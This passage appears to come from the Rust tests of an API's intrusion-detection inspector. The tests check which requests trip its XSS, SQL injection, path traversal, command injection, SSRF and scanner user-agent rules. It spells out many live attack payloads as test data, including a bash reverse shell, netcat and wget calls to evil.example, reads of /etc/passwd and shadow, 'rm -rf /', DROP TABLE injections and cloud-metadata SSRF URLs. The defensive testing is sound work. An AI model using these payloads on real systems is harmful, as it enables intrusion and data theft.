            path: &e.path,
            query: e.query.as_deref(),
            headers: &headers,
            body: body.as_deref(),
            content_type: content_type.as_deref(),
        })
    }

    /// Entries must be sendable as they are: an ASCII request target.
    fn check_shape(i: usize, e: &Entry) {
        assert!(
            matches!(
                e.method.as_str(),
                "GET" | "POST" | "PATCH" | "PUT" | "DELETE"
            ),
            "entry {i}: method {}",
            e.method
        );
        assert!(e.path.starts_with('/'), "entry {i}: path must start with /");
        let target_ok = |s: &str| s.bytes().all(|b| b.is_ascii_graphic());
        assert!(target_ok(&e.path), "entry {i}: path must be visible ASCII");
        if let Some(q) = &e.query {
            assert!(target_ok(q), "entry {i}: query must be visible ASCII");
        }
        assert!(
            e.user_agent
                .bytes()
                .all(|b| b == b' ' || b.is_ascii_graphic()),
            "entry {i}: user agent must be a valid header value"
        );
        if e.method == "GET" {
            assert!(e.body.is_none(), "entry {i}: GET with a body");
        }
    }

    fn findings_text(f: &[Finding]) -> String {
        f.iter()
            .map(|f| format!("{}@{}", f.rule, f.field))
            .collect::<Vec<_>>()
            .join(", ")
    }

    #[test]
    fn benign_corpus_raises_nothing() {
        let entries = corpus(include_str!("../../tests/data/ids_benign.json"));
        assert!(entries.len() >= 320, "benign corpus has {}", entries.len());
        let mut failures = Vec::new();
        for (i, e) in entries.iter().enumerate() {
            check_shape(i, e);
            assert!(e.expect_rule.is_none() && e.expect_field.is_none());
            let found = run_entry(e);
            if !found.is_empty() {
                failures.push(format!(
                    "#{i} {} {:?}: {}",
                    e.path,
                    e.query,
                    findings_text(&found)
                ));
            }
        }
        assert!(
            failures.is_empty(),
            "false positives:\n{}",
            failures.join("\n")
        );
    }

    #[test]
    fn attack_corpus_is_detected_where_expected() {
        let entries = corpus(include_str!("../../tests/data/ids_attacks.json"));
        assert!(entries.len() >= 80, "attack corpus has {}", entries.len());
        let mut failures = Vec::new();
        let mut rules_seen = Vec::new();
        for (i, e) in entries.iter().enumerate() {
            check_shape(i, e);
            let rule = e.expect_rule.as_deref().expect("expect_rule");
            let field = e.expect_field.as_deref().expect("expect_field");
            assert!(
                RuleId::ALL.iter().any(|r| r.as_str() == rule),
                "#{i}: unknown rule {rule}"
            );
            rules_seen.push(rule.to_string());
            let found = run_entry(e);
            if !found
                .iter()
                .any(|f| f.rule.as_str() == rule && f.field == field)
            {
                failures.push(format!(
                    "#{i} ({}) expected {rule}@{field}, got [{}]",
                    e.note.as_deref().unwrap_or(""),
                    findings_text(&found)
                ));
            }
            for f in &found {
                assert!(f.field.len() <= MAX_FIELD_BYTES);
                assert!(!f.field.chars().any(char::is_control));
            }
        }
        assert!(failures.is_empty(), "missed:\n{}", failures.join("\n"));
        for rule in RuleId::ALL {
            assert!(
                rules_seen.iter().any(|r| r == rule.as_str()),
                "no attack entry for {rule}"
            );
        }
    }

    fn check(path: &str, query: Option<&str>) -> Vec<Finding> {
        inspect(&Inspected {
            path,
            query,
            ..Inspected::default()
        })
    }

    fn json_body(body: &str) -> Vec<Finding> {
        inspect(&Inspected {
            path: "/api/contacts",
            body: Some(body.as_bytes()),
            content_type: Some("application/json"),
            ..Inspected::default()
        })
    }

    /// Rules that fire on one query value `q`.
    fn rules_for(value: &str) -> Vec<RuleId> {
        let mut run = Run::default();
        let hits = run.scan(value.as_bytes(), false, false);
        RuleId::ALL
            .into_iter()
            .filter(|r| hits.contains(*r))
            .collect()
    }

    fn fires(rule: RuleId, value: &str) -> bool {
        rules_for(value).contains(&rule)
    }

    fn assert_fires(rule: RuleId, values: &[&str]) {
        for v in values {
            assert!(fires(rule, v), "{rule} should fire on {v:?}");
        }
    }

    fn assert_quiet(values: &[&str]) {
        for v in values {
            assert!(rules_for(v).is_empty(), "{v:?} tripped {:?}", rules_for(v));
        }
    }

    #[test]
    fn rule_names_are_stable() {
        let names: Vec<_> = RuleId::ALL.iter().map(|r| r.as_str()).collect();
        assert_eq!(
            names,
            [
                "xss",
                "sql_injection",
                "path_traversal",
                "command_injection",
                "ssrf",
                "scanner_user_agent"
            ]
        );
        assert_eq!(
            serde_json::to_string(&RuleId::SqlInjection).unwrap(),
            "\"sql_injection\""
        );
        assert_eq!(RuleId::Ssrf.to_string(), "ssrf");
    }

    #[test]
    fn xss_needs_real_markup() {
        assert_fires(
            RuleId::Xss,
            &[
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js>",
                "</script><svg onload=alert(1)>",
                "<svg/onload=alert(1)>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\"onerror=\"alert(1)\">",
                "<iframe src=//evil.example>",
                "<object data=x>",
                "<embed src=x>",
                "<body onpageshow = alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "java\tscript:alert(1)",
                "JaVaScRiPt:alert(document.domain)",
                "java\nscript\n:alert(1)",
                "javascript: alert(1)",
                "vbscript:msgbox(1)",
                "data:text/html;base64,PHNjcmlwdD4=",
                "data: text/html,<b>x",
                "<iframe srcdoc=\"x\">",
                "srcdoc = '&lt;script&gt;'",
                "width: expression(alert(1))",
                "x:expression/**/(alert(1))",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<a href=\"&#106;avascript:alert(1)\">",
                "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">",
                "\u{ff1c}script\u{ff1e}alert(1)",
                "<script",
                "x\" onfocus=alert(1) autofocus=\"",
                "' onmouseover='alert(1)",
                "<img/src/onerror=alert(1)>",
                "<scr<script>ipt>alert(1)</script>",
                "<a href=javas&#99;ript:alert(1)>",
            ],
        );
        assert_quiet(&[
            "customer <3 the plan",
            "a < b > c",
            "<3",
            "x<y",
            "I <3 it",
            "2 < 3 and 5 > 4",
            "<b>bold</b> and <i>italic</i>",
            "mail <jana@example.com>",
            "<https://example.com/help>",
            "We use JavaScript: it is slow",
            "Tom &amp; Jerry",
            "he said \"ok\" and left",
            "the 'online' option",
            "\"Once upon a time\" she said",
            "facial expression (angry)",
            "Expression(s) of interest: 3",
            "Data: text/html pages are slow",
            "data: 3 calls, 2 voicemails",
            "😀 <- happy",
            "∑ x_i < 10",
        ]);
    }

    #[test]
    fn sql_injection_is_read_as_tokens() {
        assert_fires(
            RuleId::SqlInjection,
            &[
                "' or 1=1",
                "' OR '1'='1",
                "' or 'a'='a",
                "1' or '1'='1' -- ",
                "admin'--",
                "admin' #",
                "x'; --",
                "') or ('a'='a",
                "\" or \"\"=\"",
                "1 or 1=1--",
                "1 OR 1=1",
                "' or true--",
                "' || 1=1",
                "' and 2>1 --",
                "1'or'1'='1",
                "admin'or'1'='1",
                "' union select null,null--",
                "1 UNION ALL SELECT username, password FROM users",
                "1/**/union/**/select/**/1,2",
                "1 /*!50000union*/ /*!50000select*/ 1",
                "x'; drop table users;--",
                "1; DROP TABLE calls",
                "1; drop table if exists users cascade",
                "' union select password from users--",
                "' union select 'a'",
                "1; delete from users--",
                "1; insert into users (name) values ('x')",
                "1; update users set role='admin'",
                "1; exec xp_cmdshell 'dir'",
                "1 and sleep(5)",
                "1' and SLEEP(5)#",
                "benchmark(5000000,md5(1))",
                "1; select pg_sleep(10)",
                "'; waitfor delay '0:0:5'--",
                "1 and 1=(select count(*) from information_schema.tables)",
                "union select load_file('/etc/passwd')",
                "' union select 1 into outfile '/tmp/x'",
                "' and (select 1 from dual)",
                "') or '1'='1--",
                "1)) or ((1=1",
                "1' ORDER BY 3--+",
                "@@version",
                "1; select * from users",
                "x'; SELECT NULL, NULL--",
            ],
        );
        assert_quiet(&[
            "O'Brien",
            "D'Angelo",
            "select a plan",
            "Please select the premium plan",
            "drop me a line",
            "union members",
            "I'll call at 5 -- thanks",
            "Rock 'n' roll",
            "It's 'great' # 1 product",
            "customers' feedback -- good",
            "Ballon d'Or winner",
            "the 'order by' menu",
            "sort 'order by 5pm'",
            "asked to drop the premium tier",
            "call back after 5pm -- urgent",
            "need sleep (8 hours)",
            "remove; delete from the campaign list please",
            "done; update the CRM tomorrow",
            "options: either 1 or 2",
            "1=1 is math",
            "Ms. O'Neil and Mr. D'Souza",
            "'Order #12' shipped",
            "done; select a plan from the list",
            "Credit Union Select account holder",
            "Cancelled; drop table tennis lessons",
        ]);
    }

    #[test]
    fn path_traversal_in_path_and_values() {
        for path in [
            "/api/files/../../etc/passwd",
            "/api/files/..%2f..%2fsecret",
            "/api/files/%2e%2e%2f%2e%2e%2fx",
            "/api/files/%252e%252e%252fx",
            "/api/files/%25252e%25252e%25252fx",
            "/api/files/..%5c..%5cwindows",
            "/api/files/..\\..\\x",
            "/api/files/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
            "/api/files/..%c0%afx",
            "/api/files/%u002e%u002e/x",
            "/api/files/..",
            "/api/files/..;/admin",
            "/api/x/%EF%BC%8E%EF%BC%8E%EF%BC%8Fx",
        ] {
            let found = check(path, None);
            assert!(
                found
                    .iter()
                    .any(|f| f.rule == RuleId::PathTraversal && f.field == "path"),
                "{path}: {found:?}"
            );
        }
        assert_fires(
            RuleId::PathTraversal,
            &[
                "../../etc/passwd",
                "..\\..\\boot.ini",
                "/etc/passwd",
                "C:\\Windows\\win.ini",
                "/proc/self/environ",
                "....//....//x",
                "..",
                "file=../x",
            ],
        );
        assert_quiet(&[
            "wait.../ ok",
            "...",
            "hmm..",
            "and/or...",
            "v1.2.3",
            "/api/calls/123",
            "etc. passwd reset requested",
            "1..5",
        ]);
        assert!(check("/api/calls/123/notes", None).is_empty());
        assert!(check("/api/v1.2/calls", None).is_empty());
    }

    #[test]
    fn command_injection_needs_a_command() {
        assert_fires(
            RuleId::CommandInjection,
            &[
                "; cat /etc/passwd",
                "x | nc 10.0.0.1 4444",
                "x && wget http://evil.example/x",
                "$(curl http://evil.example)",
                "`id`",
                "`whoami`",
                "; rm -rf /",
                "x | sh",
                "x;sh",
                "/bin/sh -i",
                "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "powershell -e JABjAGwA",
                "PowerShell.exe -NoP -W Hidden",
                "cmd.exe /c dir",
                "CMD /C whoami",
                "x\ncat /etc/shadow",
                ";cat${IFS}/etc/passwd",
                "|| ping -c 10 127.0.0.1",
                "& ping -n 5 127.0.0.1",
                "; sleep 10",
                "; /usr/bin/id",
                "() { :; }; echo vulnerable",
                "; cat</etc/passwd",
                "; ls -la",
                "$(sleep 5)",
                "iex(New-Object Net.WebClient)",
                "a;{cat,/etc/passwd}",
                "x;{wget,http://evil.example/x}",
                ";echo${IFS}pwned>/tmp/x",
                "a$IFS-la",
            ],
        );
        assert_quiet(&[
            "Tom & Jerry",
            "rock; paper; scissors",
            "A|B testing",
            "$5 off",
            "cost: $(5)",
            "email me at x@y.com",
            "skills: java; python; sql",
            "pets: dog; cat",
            "name;email;id",
            "call; ping me later",
            "Tom & more",
            "50% off; expires Friday",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "Mozilla/5.0 (compatible; curl/8.5.0)",
            "run cmd to open a prompt",
            "the powershell window",
            "notes; {cat, dog}",
        ]);
    }

    #[test]
    fn ssrf_targets_in_every_notation() {
        assert_fires(
            RuleId::Ssrf,
            &[
                "http://169.254.169.254/latest/meta-data/",
                "169.254.169.254",
                "http://2852039166/latest",
                "http://0xa9fea9fe/",
                "http://0xA9.0xFE.0xA9.0xFE/",
                "http://0251.0376.0251.0376/",
                "http://169.254.43518/",
                "http://user@2852039166/",
                "http://[::ffff:169.254.169.254]/",
                "http://[::ffff:a9fe:a9fe]/",
                "http://[fd00:ec2::254]/latest",
                "http://[64:ff9b::a9fe:a9fe]/",
                "http://metadata.google.internal/computeMetadata/v1/",
                "http://METADATA.GOOGLE.INTERNAL./",
                "http://100.100.100.200/latest/meta-data",
                "http://169.254.170.2/v2/credentials",
                "file:///etc/passwd",
                "FILE://c:/windows",
                "gopher://127.0.0.1:6379/_INFO",
                "dict://127.0.0.1:11211/stats",
                "ldap://evil.example/x",
                "jar:http://evil.example/x.jar!/",
                "http://169.254.169.254./",
                "http://169.254.169.254.nip.io/latest",
                "http://instance-data/latest/meta-data",
                "http://metadata/computeMetadata/v1/",
            ],
        );
        assert_quiet(&[
            "https://example.com/help?x=1",
            "https://example.com/help?a=1&b=2",
            "call 2852039166 tomorrow",
            "+2852039166",
            "Chrome/124.0.6367.91",
            "10:30",
            "profile: admin",
            "Tip jar: $5",
            "my file: notes.txt",
            "https://hooks.example.com/kraliki",
            "metadata review at 10",
            "version 169.254.1.2.beta",
            "instance-database migration",
            "https://metadata.example.com/x",
            "see //metadata.json",
        ]);
    }

    #[test]
    fn scanner_user_agents_are_words() {
        for ua in [
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 zgrab/0.x",
            "zgrab2",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "Fuzz Faster U Fool v2.1.0-dev",
            "gobuster/3.6",
            "feroxbuster/2.10.4",
            "Mozilla/4.0 (Hydra)",
            "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
            "WhatWeb/0.5.5",
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
            "jaeles",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Acunetix/13",
        ] {
            assert!(scanner_user_agent(ua.as_bytes()), "{ua}");
            let found = inspect(&Inspected {
                path: "/api/calls",
                headers: &[("user-agent", ua)],
                ..Inspected::default()
            });
            assert!(
                found
                    .iter()
                    .any(|f| f.rule == RuleId::ScannerUserAgent && f.field == "header.user-agent"),
                "{ua}: {found:?}"
            );
        }
        for ua in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/124.0.0.0 Safari/537.36",
            "curl/8.5.0",
            "python-requests/2.31.0",
            "okhttp/4.12.0",
            "python-httpx/0.27.0",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "HydraulicsCo-Agent/1.0",
            "SQLMapper/2",
        ] {
            assert!(!scanner_user_agent(ua.as_bytes()), "{ua}");
        }
    }

    #[test]
    fn query_fields_are_named_and_decoded() {
        let found = check("/api/contacts", Some("limit=20&q=%27%20or%201%3D1--"));
        assert_eq!(
            found,
            [Finding {
                rule: RuleId::SqlInjection,
                field: "query.q".into()
            }]
        );

        let found = check("/api/contacts", Some("q=union+select+1"));
        assert_eq!(found[0].field, "query.q");

        // A payload in the name itself is reported without echoing it.
        let found = check("/api/contacts", Some("%3Cscript%3Ealert(1)%3C/script%3E=1"));
        assert_eq!(found[0].rule, RuleId::Xss);
        assert_eq!(found[0].field, "query._script_alert_1___script_");

        let long = format!("{}=%3Cscript%3E", "n".repeat(200));
        let found = check("/api/contacts", Some(&long));
        assert_eq!(found[0].field, format!("query.{}", "n".repeat(64)));

        let found = check("/api/contacts", Some("a%0d%0ab=%3Cscript%3E"));
        assert_eq!(found[0].field, "query.ab");

        let found = check("/api/contacts", Some("=%3Cscript%3E"));
        assert_eq!(found[0].field, "query._");

        let found = check("/api/contacts", Some("?q=%3Cscript%3E"));
        assert_eq!(found[0].field, "query.q");
    }

    #[test]
    fn one_finding_per_rule_and_field() {
        let found = check(
            "/api/contacts",
            Some("q=%3Cscript%3E&q=%3Ciframe%3E&x=%3Cscript%3E"),
        );
        assert_eq!(
            found,
            [
                Finding {
                    rule: RuleId::Xss,
                    field: "query.q".into()
                },
                Finding {
                    rule: RuleId::Xss,
                    field: "query.x".into()
                }
            ]
        );
        let found = check("/api/files/..%2f..%2fetc%2fpasswd", None);
        assert_eq!(
            found,
            [Finding {
                rule: RuleId::PathTraversal,
                field: "path".into()
            }]
        );
    }

    #[test]
    fn query_parameters_are_capped() {
        let mut q = "a=1&".repeat(MAX_QUERY_PARAMS);
        q.push_str("late=%3Cscript%3E");
        assert!(check("/api/calls", Some(&q)).is_empty());
        let q = format!("{}late=%3Cscript%3E", "a=1&".repeat(MAX_QUERY_PARAMS - 1));
        assert_eq!(check("/api/calls", Some(&q)).len(), 1);
    }

    #[test]
    fn json_bodies_are_walked_with_dotted_fields() {
        let found = json_body(
            r#"{"name":"O'Brien","notes":"<script>alert(1)</script>",
                "custom":{"tags":["vip","' or 1=1--"],"deep":{"url":"http://169.254.169.254/"}},
                "<img src=x onerror=alert(1)>":1}"#,
        );
        let got: Vec<(RuleId, &str)> = found.iter().map(|f| (f.rule, f.field.as_str())).collect();
        assert!(got.contains(&(RuleId::Xss, "body.notes")), "{got:?}");
        assert!(
            got.contains(&(RuleId::SqlInjection, "body.custom.tags.1")),
            "{got:?}"
        );
        assert!(
            got.contains(&(RuleId::Ssrf, "body.custom.deep.url")),
            "{got:?}"
        );
        assert!(
            got.contains(&(RuleId::Xss, "body._img_src_x_onerror_alert_1__")),
            "{got:?}"
        );
        assert_eq!(got.len(), 4, "{got:?}");
    }

    #[test]
    fn json_strings_are_percent_decoded_too() {
        let found = json_body(r#"{"q":"%3Cscript%3Ealert(1)%3C%2Fscript%3E"}"#);
        assert_eq!(found[0].field, "body.q");
    }

    #[test]
    fn password_fields_are_not_inspected() {
        let found = json_body(r#"{"email":"a@example.com","password":"x'--$(id)<script>"}"#);
        assert!(found.is_empty(), "{found:?}");
        let found = json_body(r#"{"email":"a@example.com<script>","password":"x"}"#);
        assert_eq!(found[0].field, "body.email");
    }

    #[test]
    fn broken_json_is_read_as_text() {
        let found = json_body(r#"{"notes":"<script>alert(1)</script>", "x": "#);
        assert_eq!(
            found,
            [Finding {
                rule: RuleId::Xss,
                field: "body".into()
            }]
        );
    }

    #[test]
    fn only_the_first_64_kib_is_read() {
        let mut body = vec![b'a'; MAX_BODY_INSPECTED];
        body.extend_from_slice(b"<script>alert(1)</script>");
        let req = Inspected {
            path: "/api/contacts/import",
            body: Some(&body),
            content_type: Some("text/csv"),
            ..Inspected::default()
        };
        assert!(inspect(&req).is_empty());

        // A JSON body cut at 64 KiB no longer parses and is read as text.
        let mut json = br#"{"notes":"<script>alert(1)</script>","pad":""#.to_vec();
        json.extend(std::iter::repeat_n(b'x', MAX_BODY_INSPECTED));
        json.extend_from_slice(b"\"}");
        let found = json_body(std::str::from_utf8(&json).unwrap());
        assert_eq!(found[0].field, "body");
    }

    #[test]
    fn json_strings_are_capped() {
        let mut items: Vec<String> = (0..MAX_JSON_STRINGS).map(|i| i.to_string()).collect();
        items.push("<script>alert(1)</script>".into());
        let body = serde_json::to_string(&serde_json::json!({ "items": items })).unwrap();
        // The key "items" uses one of the budget, so the last string is past it.
        assert!(json_body(&body).is_empty());
    }

    #[test]
    fn deep_json_field_names_are_cut() {
        let mut body = String::from("\"<script>\"");
        for _ in 0..100 {
            body = format!("{{\"{}\":{body}}}", "k".repeat(40));
        }
        let found = json_body(&body);
        assert_eq!(found.len(), 1);
        assert!(found[0].field.len() <= MAX_FIELD_BYTES);
        assert!(found[0].field.starts_with("body.kkk"));
    }

    #[test]
    fn form_bodies_are_read_like_the_query() {
        let body = b"CallSid=CA123&CallStatus=completed&Notes=%27%3B+DROP+TABLE+calls--";
        let found = inspect(&Inspected {
            path: "/api/webhooks/twilio/status",
            body: Some(body),
            content_type: Some("application/x-www-form-urlencoded; charset=utf-8"),
            ..Inspected::default()
        });
        assert_eq!(
            found,
            [Finding {
                rule: RuleId::SqlInjection,
                field: "body.Notes".into()
            }]
        );
    }

    #[test]
    fn binary_bodies_are_skipped_and_text_is_read() {
        let payload = b"; cat /etc/passwd";
        let with_type = |ct: &'static str| {
            inspect(&Inspected {
                path: "/api/recordings",
                body: Some(payload),
                content_type: Some(ct),
                ..Inspected::default()
            })
        };
        assert!(with_type("audio/wav").is_empty());
        assert!(with_type("application/octet-stream").is_empty());
        assert_eq!(with_type("text/plain").len(), 2);
        assert_eq!(
            with_type("multipart/form-data; boundary=x")[0].field,
            "body"
        );
    }

    #[test]
    fn only_selected_headers_are_read() {
        let headers = [
            (
                "referer",
                "https://example.com/?q=<script>alert(1)</script>",
            ),
            ("cookie", "a=' or 1=1--"),
            ("x-forwarded-host", "169.254.169.254"),
            ("authorization", "Bearer $(id)"),
            (
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            ),
        ];
        let req = Inspected {
            path: "/api/calls",
            headers: &headers,
            ..Inspected::default()
        };
        assert!(inspect(&req).is_empty());

        let headers = [
            ("user-agent", "() { :; }; /bin/bash -c 'curl evil.example'"),
            ("x-original-url", "/api/..%2f..%2fadmin"),
            ("X-Rewrite-URL", "/%2e%2e/secret"),
        ];
        let found = inspect(&Inspected {
            path: "/api/calls",
            headers: &headers,
            ..Inspected::default()
        });
        let got: Vec<(RuleId, &str)> = found.iter().map(|f| (f.rule, f.field.as_str())).collect();
        assert!(got.contains(&(RuleId::CommandInjection, "header.user-agent")));
        assert!(got.contains(&(RuleId::PathTraversal, "header.x-original-url")));
        assert!(got.contains(&(RuleId::PathTraversal, "header.x-rewrite-url")));
    }

    #[test]
    fn findings_are_capped() {
        let query: Vec<String> = (0..200).map(|i| format!("p{i}=%3Cscript%3E")).collect();
        let found = check("/api/calls", Some(&query.join("&")));
        assert_eq!(found.len(), MAX_FINDINGS);
    }

    #[test]
    fn decoding_handles_layers_and_lookalikes() {
        assert_eq!(&*decode(b"%252e%252e%252f", false), b"../");
        assert_eq!(&*decode(b"%25252e", false), b".");
        assert_eq!(&*decode(b"%2525252e", false), b"%2e");
        assert_eq!(&*decode(b"a+b%2Bc", true), b"a b+c");
        assert_eq!(&*decode(b"a+b", false), b"a+b");
        assert_eq!(&*decode(b"%c0%ae%c0%af", false), b"./");
        assert_eq!(&*decode(b"%e0%80%ae", false), b".");
        assert_eq!(&*decode(b"%u002e%u2215", false), b"./");
        assert_eq!(&*decode(b"50% off", false), b"50% off");
        assert!(matches!(decode(b"plain", true), Cow::Borrowed(_)));
        assert!(matches!(
            decode("Zoë 王芳".as_bytes(), false),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn pathological_inputs_stay_fast() {
        let size = MAX_BODY_INSPECTED;
        let inputs: Vec<Vec<u8>> = [
            &b"<"[..],
            b"<a ",
            b"'",
            b"' or ",
            b"/*",
            b";",
            b"$(",
            b"j\t",
            b"..",
            b"0.",
            b"::",
            b"&#",
            b"%25",
            b"() ",
            b"on",
        ]
        .iter()
        .map(|unit| unit.iter().copied().cycle().take(size).collect())
        .collect();
        let started = std::time::Instant::now();
        for body in &inputs {
            let _ = inspect(&Inspected {
                path: "/api/x",
                body: Some(body),
                content_type: Some("text/plain"),
                ..Inspected::default()
            });
        }
        // Quadratic matching on 64 KiB would take minutes; linear takes
        // milliseconds even unoptimized.
        assert!(
            started.elapsed().as_secs() < 5,
            "took {:?}",
            started.elapsed()
        );
    }
}
